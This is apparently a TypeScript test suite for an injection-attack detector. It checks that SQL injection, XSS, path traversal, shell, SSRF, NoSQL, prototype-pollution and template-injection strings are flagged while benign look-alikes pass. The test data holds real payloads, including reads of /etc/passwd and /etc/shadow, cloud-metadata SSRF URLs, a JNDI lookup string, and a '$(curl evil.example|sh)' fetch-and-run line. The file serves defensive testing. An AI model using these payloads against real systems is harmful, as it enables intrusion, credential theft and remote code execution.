/** Each detector on the tricky cases named in the issue, both ways: the attack is caught, its look-alike passes. */
import { strict as assert } from 'node:assert';
import { test } from 'node:test';
import { ALL_ATTACK_CATEGORIES, attackCategorySet, detectAttack, detectInJson, type AttackCategory } from '../src/attacks/index.js';
import { EVENT_HANDLERS } from '../src/attacks/words/html.js';

function caughtAs(category: AttackCategory, attacks: string[], lookAlikes: string[]): void {
  const only = attackCategorySet([category]);
  for (const a of attacks) {
    const hit = detectAttack(a, 'query', only);
    assert.ok(hit, `${category} missed ${JSON.stringify(a)}`);
    assert.equal(hit.category, category);
    assert.ok(hit.snippet.length <= 64, 'snippet is bounded');
  }
  for (const b of lookAlikes) {
    const hit = detectAttack(b, 'query', ALL_ATTACK_CATEGORIES);
    assert.equal(hit, null, `${JSON.stringify(b)} flagged as ${hit?.category}: ${hit?.reason}`);
  }
}

test('SQL injection: literal closed and a clause added is caught; apostrophes and SQL words in prose pass', () => {
  caughtAs(
    'sqli',
    ["x'OR'1'='1", '1 OR 1=1', "' UNION SELECT null--", "'\tOR\t1=1--", "'/**/OR/**/1=1--", "1'/*!50000UNION*/ SELECT 1--", '1; DROP TABLE users', "' AND SLEEP(5)--", "1 AND pg_sleep(5)", "'; WAITFOR DELAY '0:0:5'--", "admin'--", "%27%20OR%201%3D1--", '1+OR+1=1', "') or ('a'='a"],
    ["O'Brien", "D'Angelo's", 'select a plan', 'Union Square', "He said 'yes' or 'no'", "Rock 'n' roll", '1 or 2', '3 apples and 2 pears', '5 - 3 = 2', "Parents' evening -- 7pm", '1 order by friday please', 'I dropped the table; oops'],
  );
});

test('XSS: tags that run script, handlers after a broken attribute and script URLs are caught; <b>, <3 and 1<2 pass', () => {
  caughtAs(
    'xss',
    ['<svg onload=alert(1)>', '<details open ontoggle=alert(1)>', '<script>alert(1)</script>', '<img/src/onerror=alert(1)>', 'jav&#x09;ascript:alert(1)', 'java\tscript:alert(1)', '" autofocus onfocus="alert(1)', '%3Cscript%3E', '<a href="&#106;avascript:x()">'],
    ['I <3 this', '<b>bold</b> and <i>it</i>', '1<2 and 3>2', '<a href="https://example.com">x</a>', '<img src="cat.png" alt="cat">', 'Online only', 'Click on the button', 'JavaScript is fun', 'Data: see attached'],
  );
  // The break-out reader looks names up only when they begin with `on` and have five letters or more.
  for (const name of EVENT_HANDLERS) assert.match(name, /^on[a-z]{3,}$/, name);
  assert.ok(EVENT_HANDLERS.has('onfocus'));
  caughtAs('xss', ['" autofocus OnFocus="alert(1)', "' ONLOAD='x()"], []);
});

test('traversal: climbing above the root and sensitive files are caught; paths that stay inside pass', () => {
  caughtAs(
    'traversal',
    ['../../../etc/passwd', '..%2f..%2fetc%2fpasswd', '....//....//etc/passwd', '%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd', '/etc/passwd', 'C:\\windows\\win.ini', '..\\..\\boot.ini', '../.env', 'php://filter/resource=index.php', 'file:///etc/shadow'],
    ['docs/../readme.txt', 'a/b/../c/d.txt', '../images/logo.png', 'The /etc/passwd file lists users', 'range 1..10', 'Wait... what', '/usr/local/bin/node', 'C:\\Users\\Ann\\notes.txt'],
  );
});

test('shell: a separator followed by a command and substitutions are caught; shell-like prose passes', () => {
  caughtAs(
    'shell',
    [';id', '|cat /etc/passwd', '$(whoami)', '`id`', 'a;cat${IFS}/etc/passwd', "127.0.0.1;c'a't /etc/passwd", ';/???/c?t /etc/passwd', '%0acat /etc/passwd', '& ping -n 5 127.0.0.1 &'],
    ['use ls -la', 'Tom & Jerry', 'cats; cat lovers unite', 'Run `ls -la` to see files', '$(document).ready(fn)', 'Q&A; id est', 'sleep well; see you'],
  );
});

test('SSRF: loopback and metadata hosts in every encoding are caught; public URLs, prices and times pass', () => {
  caughtAs(
    'ssrf',
    ['http://127.1/', 'http://0x7f.1/', 'http://2130706433/', '0177.0.0.1', 'http://[::1]/', 'http://[::ffff:127.0.0.1]/', 'http://169.254.169.254/latest/meta-data/', 'http://metadata.google.internal/', '127.1:6379', 'http://evil.example@127.0.0.1/', 'http://①②⑦.⓪.⓪.①/'],
    ['127.1', '12:30', '2130706433', 'https://example.com/a?b=1', 'My IP: 127.0.0.1 (loopback) is fine', 'localhost:3000 is my dev server', '0.5/1'],
  );
});

test('NoSQL: operators as keys are caught; dollar amounts pass', () => {
  caughtAs('nosql', ['{"$ne":null}', '{"$where":"sleep(100)"}', 'user[$ne]=1', "'; return true; var x='"], ['costs $5', '$where is my order?', 'I paid $in cash', '{"$schema": "https://json-schema.org/schema"}']);
  assert.equal(detectInJson({ user: 'ann', pass: { $ne: null } }, ALL_ATTACK_CATEGORIES)?.category, 'nosql');
  assert.equal(detectInJson({ $where: 'this.a == 1' }, ALL_ATTACK_CATEGORIES)?.category, 'nosql');
  assert.equal(detectInJson({ price: '$5', note: 'pay $in cash' }, ALL_ATTACK_CATEGORIES), null);
});

test('prototype pollution: __proto__ and constructor.prototype key paths are caught, in strings and as JSON keys', () => {
  caughtAs('prototype', ['__proto__[x]=1', 'constructor[prototype][x]=1', 'a.__proto__.b=1', '{"constructor":{"prototype":{"x":1}}}'], ['Object.prototype is shared', 'The __init__ method', 'prototype of the car']);
  assert.equal(detectInJson(JSON.parse('{"a":{"__proto__":{"isAdmin":true}}}'), ALL_ATTACK_CATEGORIES)?.category, 'prototype');
  assert.equal(detectInJson(JSON.parse('{"constructor":{"prototype":{"x":1}}}'), ALL_ATTACK_CATEGORIES)?.category, 'prototype');
  assert.equal(detectInJson({ constructor: 'a builder' }, ALL_ATTACK_CATEGORIES), null);
});

test('template injection: expressions and lookups are caught; bare placeholders pass', () => {
  caughtAs('template', ['${jndi:ldap://x/a}', '${${lower:j}ndi:ldap://x/a}', '{{7*7}}', '#{7*7}', '<%= 7*7 %>', "{{''.__class__}}", '${T(java.lang.Runtime).getRuntime()}'], ['{{name}}', 'Hello ${name}', '#{count} items', 'Hi {{first_name}}, order {{order_id}}', '${HOME:-/tmp}']);
});

test('an attack after a run of look-alike syntax is still found, wherever the run ends', () => {
  // The detectors read a dense run differently from sparse text (a few characters in JavaScript before
  // each native search; template openers by regex once anchors come thick and open nothing): the attack
  // is moved across those boundaries one character at a time.
  const cases: [AttackCategory, string, string][] = [
    ['shell', '&{', ';cat /etc/passwd'],
    ['shell', 'a$', '$(whoami)'],
    ['nosql', '$ ', '{"$ne":null}'],
    ['template', '={', '{{7*7}}'],
    ['template', '<#', '<#assign x=7*7>'],
    ['template', '{x', '${jndi:ldap://x/a}'],
  ];
  for (const [category, unit, attack] of cases) {
    for (let pad = 0; pad < 40; pad++) {
      const value = unit.repeat(20) + 'x'.repeat(pad) + ' ' + attack;
      assert.equal(detectAttack(value, 'body', attackCategorySet([category]))?.category, category, `${category} missed after ${JSON.stringify(unit)} ×20 and ${pad} letters`);
      assert.equal(detectAttack(unit.repeat(20) + 'x'.repeat(pad), 'body', attackCategorySet([category])), null, `${JSON.stringify(unit)} ×20 alone flagged`);
    }
  }
});

test('only enabled categories run, and a snippet never carries long digit runs', () => {
  assert.equal(detectAttack("' OR 1=1--", 'query', attackCategorySet(['xss'])), null);
  const hit = detectAttack("4111111111111111' OR 1=1--", 'body', ALL_ATTACK_CATEGORIES);
  assert.ok(hit);
  assert.equal(hit.location, 'body');
  assert.ok(!/\d{6}/.test(hit.snippet), hit.snippet);
  assert.throws(() => attackCategorySet(['nope' as AttackCategory]), /unknown attack category/);
});

test('a long value with an encoding layer is read decoded: an attack after 4 KiB of prose is still caught', () => {
  const prose = 'We loved the stay &amp; the food. '.repeat(140);
  assert.equal(detectAttack(prose, 'body', ALL_ATTACK_CATEGORIES), null);
  assert.equal(detectAttack(prose + '<svg/onload=alert(1)>', 'body', ALL_ATTACK_CATEGORIES)?.category, 'xss');
  assert.equal(detectAttack(prose + '%3Cscript%3Ealert(1)%3C/script%3E', 'body', ALL_ATTACK_CATEGORIES)?.category, 'xss');
  assert.equal(detectAttack(prose + ' $(curl evil.example|sh)', 'body', ALL_ATTACK_CATEGORIES)?.category, 'shell');
});
